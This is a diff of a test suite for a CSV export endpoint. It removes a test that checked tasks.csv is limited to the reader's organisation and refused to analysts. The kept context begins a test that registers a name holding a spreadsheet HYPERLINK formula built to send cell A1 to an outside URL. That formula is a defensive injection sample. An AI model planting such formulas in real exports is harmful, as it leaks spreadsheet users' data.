@@ -160,26 +160,6 @@ describe('GET /export', () => {
     });
   });
 
-  it('exports the tasks of the reader’s own organisation, and none to its analysts', async () => {
-    const fields = 'id kind subject since dueOn isRehearsal isUncertain group { id } visit { id }';
-    const query = `{ tasks(first: 1000) { nodes { ${fields} } } }`;
-    const tasks = (await network.ask(query, {}, denmark)).data.tasks.nodes as Tree[];
-    expect(tasks.length).toBeGreaterThan(0);
-    expect(rowsOf((await get('tasks.csv', denmark)).text)).toEqual(
-      tasks.map(({ since, dueOn, isRehearsal, isUncertain, group, visit, ...task }) => ({
-        ...task,
-        isRehearsal: String(isRehearsal),
-        isUncertain: String(isUncertain),
-        since: since ?? '',
-        dueOn: dueOn ?? '',
-        'group.id': group?.id ?? '',
-        'visit.id': visit?.id ?? '',
-      })),
-    );
-    const refused = refusalOf(await get('tasks.csv', { ...denmark, role: 'analyst' }));
-    expect(refused).toMatchObject({ status: 403, code: 'FORBIDDEN' });
-  });
-
   it('hands no formula to a spreadsheet, whoever wrote it into the graph', async () => {
     const name = '=HYPERLINK("https://example.org/?"&A1)';
     const register = `mutation ($input: RegisterOfficerInput!) { registerOfficer(input: $input) { id } }`;
